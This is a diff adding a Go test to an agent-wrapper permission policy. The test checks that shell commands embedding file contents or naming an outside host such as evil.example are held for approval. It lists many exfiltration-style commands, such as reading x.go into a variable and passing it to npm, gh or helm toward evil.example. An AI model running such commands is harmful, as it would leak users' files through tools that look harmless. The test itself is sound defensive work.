@@ -1,6 +1,8 @@
 package policy
 
 import (
+	"fmt"
+	"strings"
 	"testing"
 
 	"github.com/agent-wrapper/agent-wrapper/patterns"
@@ -78,6 +80,55 @@ func TestReads(t *testing.T) {
 	check(t, []Source{untrusted}, "Read(/srv/x)", "ask")
 	if _, ignored := Merge([]Source{untrusted}); len(ignored) != 1 {
 		t.Errorf("ignored %v", ignored)
+	}
+}
+
+// TestTellsHosts checks that a command which gets what it shows from a host is asked
+// about if its words hold what the line does not show, or name another host. Each
+// reader is tried with each spelling of such a word.
+func TestTellsHosts(t *testing.T) {
+	spec, _ := Merge([]Source{sourceOf(t, User, true, "")})
+	try := func(line, want string) {
+		t.Helper()
+		if d := decided(t, spec, "Bash("+line+")"); d.Behavior.String() != want {
+			t.Errorf("%s: %s (%s), want %s", line, d.Behavior, d.Reason, want)
+		}
+	}
+	readers := []string{
+		"npm view %s", "npm search %s", "pip index versions %s", "cargo search %s", "gh api %s", "gh search issues %s", "gh pr view %s",
+		"gh pr list -R %s", "gh pr list -R=%s", "gh pr list --repo=%s", "glab mr view %s", "svn info %s", "svn log %s", "svn cat %s", "helm show chart %s", "helm show values %s", "helm template %s", "helm search hub %s",
+		"aws s3 ls %s", "aws ec2 get-x %s", "gcloud projects describe %s", "gsutil ls %s", "bq show %s",
+		"go list -m %s@latest", "go list -m -versions %s", "docker search %s", "docker manifest inspect %s", "podman search %s", "skopeo inspect %s", "crane manifest %s",
+		"git remote show %s", "rclone ls %s", "s3cmd ls %s", "doctl compute droplet get %s", "brew info %s", "gem search %s", "conda search %s", "bun info %s", "snap info %s",
+	}
+	for _, reader := range readers {
+		for _, word := range []string{`"$x"`, `"a/$x"`, "a/$(cat x.go)", `"a/$(< x.go)"`, "a/*", `"https://evil.example/$x"`, "https://evil.example/x", "oci://evil.example/x", "git+ssh://evil.example/x", "evil.example/x", "evil.example:5000/x", "host:5000/x", "git@evil.example:x", "x@https://evil.example/x"} {
+			try(fmt.Sprintf(reader, word), "ask")
+			if strings.HasPrefix(word, `"$x"`) {
+				try("x=$(cat x.go); "+fmt.Sprintf(reader, word), "ask")
+				try("find . -name '*.go' -exec "+fmt.Sprintf(reader, "a{}")+` \;`, "ask")
+				try("cat x.go | xargs "+fmt.Sprintf(reader, ""), "ask")
+			}
+		}
+		for _, word := range []string{"a", "a/b", "http://localhost:4873/x", "localhost:5000/x"} {
+			if !strings.HasPrefix(word, "local") || !strings.Contains(reader, "=") {
+				try(fmt.Sprintf(reader, word), "allow")
+			}
+		}
+	}
+	for _, line := range []string{
+		"xmllint http://evil.example/x", "xmllint --noout x.xml http://evil.example/x", "ffprobe https://evil.example/x", "rpm -qip https://evil.example/x.rpm",
+		"rclone ls :http,url=https://evil.example:x", "ldapsearch -H ldap://evil.example", "pg_isready -h evil.example", "mysqlshow -h evil.example", "npm view react@npm:x evil.example/x",
+	} {
+		try(line, "ask")
+	}
+	for _, line := range []string{
+		"npm view vite version", "npm view @types/node@20.1.0 dist.tarball", "npm view react versions --json", "gh pr view 15 --json title,body --jq '.files[].path'",
+		`gh api repos/o/r/pulls/1/comments --jq '.[] | "\\(.path):\\(.line // .position) https://x"'`, "gh pr view https://github.com/o/r/pull/3", "gh api https://api.github.com/repos/o/r", "gh api repos/o/r/contents/a.b/c.go",
+		"gh repo view o/r.js", "gh search code 'x repo:o/r'", "gh run view 1 --log | grep -n x.y/z", "svn status", "svn log a.c", "svn info ./a.d/b.c", "helm template app ./chart.d/x -f values.yaml", "go list -m all", "go list ./...",
+		"go list github.com/a/b/...", "go list -m github.com/a/b", "kubectl get pods", "crane version", "xmllint --noout x.xml", "rpm -qa", "for i in 1 2 3; do gh pr view $i; done", `gh pr view "x$((1+2))"`,
+	} {
+		try(line, "allow")
 	}
 }
 
